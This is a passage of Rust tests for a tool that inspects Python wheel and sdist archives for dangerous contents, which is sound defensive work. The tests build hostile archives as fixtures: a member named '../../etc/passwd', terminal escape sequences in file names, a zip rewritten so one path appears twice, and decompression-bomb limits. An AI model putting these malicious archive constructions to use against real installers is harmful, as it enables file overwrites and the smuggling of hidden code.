        let directory = tempfile::tempdir().unwrap();
        let members = vec![
            (
                "../../etc/passwd",
                "root:x:0:0::/root:/bin/sh\n".to_string(),
            ),
            ("/absolute/path", "x".to_string()),
        ];
        let path = write_zip(
            &directory,
            "evil.whl",
            &members,
            CompressionMethod::Deflated,
            2020,
        );
        let before = list_files(directory.path());
        let summary = summarize(&path, WHEEL).unwrap();
        assert_eq!(
            summary.members.keys().collect::<Vec<_>>(),
            ["../../etc/passwd", "/absolute/path"]
        );
        assert_eq!(list_files(directory.path()), before);
    }

    fn list_files(directory: &Path) -> Vec<PathBuf> {
        let mut files: Vec<PathBuf> = std::fs::read_dir(directory)
            .unwrap()
            .map(|entry| entry.unwrap().path())
            .collect();
        files.sort();
        files
    }

    #[test]
    fn classifies_members_a_reviewer_must_read_first() {
        use Distribution::{Sdist, Wheel};
        for (distribution, path, expected) in [
            (Wheel, "evil.pth", Some(Notable::PthFile("evil.pth".into()))),
            (
                Wheel,
                "demo/_speedups.cpython-311-x86_64-linux-gnu.so",
                Some(Notable::NativeLibrary(
                    "demo/_speedups.cpython-311-x86_64-linux-gnu.so".into(),
                )),
            ),
            (
                Wheel,
                "demo.libs/libz.so.1.2.13",
                Some(Notable::NativeLibrary("demo.libs/libz.so.1.2.13".into())),
            ),
            (
                Wheel,
                "demo/_core.PYD",
                Some(Notable::NativeLibrary("demo/_core.PYD".into())),
            ),
            (
                Wheel,
                "demo-1.0.data/scripts/demo",
                Some(Notable::Script("demo-1.0.data/scripts/demo".into())),
            ),
            (
                Sdist,
                "demo-1.0/bin/demo",
                Some(Notable::Script("demo-1.0/bin/demo".into())),
            ),
            (
                Sdist,
                "demo-1.0/pyproject.toml",
                Some(Notable::BuildScript("demo-1.0/pyproject.toml".into())),
            ),
            (Sdist, "demo-1.0/tests/setup.py", None),
            (Wheel, "setup.py", None),
            (Wheel, "demo/bin/tool", None),
            (Wheel, "demo/resolver.py", None),
            (Wheel, "demo/data.sock", None),
        ] {
            assert_eq!(classify(distribution, path), expected, "{path}");
        }
    }

    #[test]
    fn render_escapes_terminal_controls_and_caps_lists() {
        let changes = ArchiveChanges {
            added: (0..52)
                .map(|index| format!("pkg/file{index:02}.py"))
                .collect(),
            changed: vec!["pkg/\u{1b}[2Jclear.py".to_string()],
            ..ArchiveChanges::default()
        };
        let rendered = render(&changes);
        assert!(rendered.starts_with("1 member changed, 52 added, 0 removed\n+ pkg/file00.py\n"));
        assert!(rendered.contains("+ pkg/file49.py\n… and 2 more\n"));
        assert!(!rendered.contains("file50"));
        assert!(rendered.contains("~ pkg/\\u{1b}[2Jclear.py\n"));
        assert!(!rendered.contains('\u{1b}'));
    }

    #[test]
    fn refuses_a_zip_listing_one_path_twice() {
        // `ZipWriter` refuses duplicate names, so write two names of one length and rename the
        // second in both its local header and the central directory.
        let directory = tempfile::tempdir().unwrap();
        let members = vec![
            ("demo/setup-a.py", "safe\n".to_string()),
            ("demo/setup-b.py", "evil\n".to_string()),
        ];
        let path = write_zip(
            &directory,
            "dup.whl",
            &members,
            CompressionMethod::Stored,
            2020,
        );
        let mut bytes = std::fs::read(&path).unwrap();
        let (from, to) = (b"demo/setup-b.py", b"demo/setup-a.py");
        let positions: Vec<usize> = bytes
            .windows(from.len())
            .enumerate()
            .filter(|(_, window)| window == from)
            .map(|(position, _)| position)
            .collect();
        assert_eq!(positions.len(), 2);
        for position in positions {
            bytes[position..position + to.len()].copy_from_slice(to);
        }
        std::fs::write(&path, &bytes).unwrap();
        let error = summarize(&path, WHEEL).unwrap_err();
        assert!(
            matches!(error, InspectError::DuplicateMembers { .. }),
            "{error:?}"
        );
        assert!(matches!(
            explain(None, &path, WHEEL),
            Difference::Unreadable(InspectError::DuplicateMembers { .. })
        ));
    }

    #[test]
    fn decompressing_past_the_limit_is_too_large() {
        let decompressed = Cell::new(MAX_DECOMPRESSED_BYTES - 2);
        let mut reader = MeteredReader {
            inner: &b"abcd"[..],
            decompressed: &decompressed,
        };
        assert!(reader.read_to_end(&mut Vec::new()).is_err());
        let collector = Collector {
            archive: Path::new("bomb.whl"),
            kind: ArchiveKind::Zip,
            distribution: Distribution::Wheel,
            decompressed: &decompressed,
            digests: MemberDigests::Computed,
            entries_seen: MAX_MEMBERS,
            members: BTreeMap::new(),
            metadata: None,
            entry_points: None,
        };
        assert!(matches!(
            collector.stream_error(io::Error::other("limit")),
            InspectError::TooLarge {
                limit: SizeLimit::DecompressedBytes { .. },
                ..
            }
        ));
        let mut collector = collector;
        assert!(matches!(
            collector.count_entry(),
            Err(InspectError::TooLarge {
                limit: SizeLimit::Members { .. },
                ..
            })
        ));
    }

    #[test]
    fn refuses_unsupported_filenames_and_duplicate_tar_members() {
        let directory = tempfile::tempdir().unwrap();
        let path = write_bytes(&directory, "x.tar.bz2", b"BZh");
        assert!(matches!(
            summarize(&path, "demo-1.0.tar.bz2"),
            Err(InspectError::UnsupportedFilename { .. })
        ));

        let members = vec![
            ("demo-1.0/setup.py", "safe\n".to_string()),
            ("demo-1.0/setup.py", "evil\n".to_string()),
        ];
        let path = write_tar_gz(&directory, "dup.tar.gz", &members);
        assert!(matches!(
            summarize(&path, SDIST),
            Err(InspectError::DuplicateMembers { .. })
        ));
    }

    #[test]
    fn formats_not_read_must_still_start_and_end_as_they_should() {
        // Found in review: a cut `.tar.bz2` was recorded.
        let directory = tempfile::tempdir().unwrap();
        let write = |name: &str, bytes: &[u8]| {
            let path = directory.path().join(name);
            fs_err::write(&path, bytes).unwrap();
            path
        };
        let shape =
            |name: &str, bytes: &[u8]| examine(&write(name, bytes), name, Depth::Whole).unwrap();
        assert_eq!(shape("p-1.0.tar.bz2", b"BZh91AY&SY..."), Shape::Archive);
        assert!(matches!(
            shape("p-1.0.tar.bz2", b"<html>oops</html>"),
            Shape::NotAnArchive(_)
        ));
        assert_eq!(shape("p-1.0.tar.xz", b"\xfd7zXZ\x00....YZ"), Shape::Archive);
        assert!(matches!(
            shape("p-1.0.tar.xz", b"\xfd7zXZ\x00....cut"),
            Shape::NotAnArchive(reason) if reason.contains("cut short")
        ));
        // A wheel's zip directory is read without inflating anything.
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        zip.start_file(
            "p-1.0.dist-info/METADATA",
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
        let wheel = zip.finish().unwrap().into_inner();
        assert!(wheel_lists_metadata(&write(
            "p-1.0-py3-none-any.whl",
            &wheel
        )));
        assert!(!wheel_lists_metadata(&write(
            "q-1.0-py3-none-any.whl",
            b"PK not a zip"
        )));
    }
}
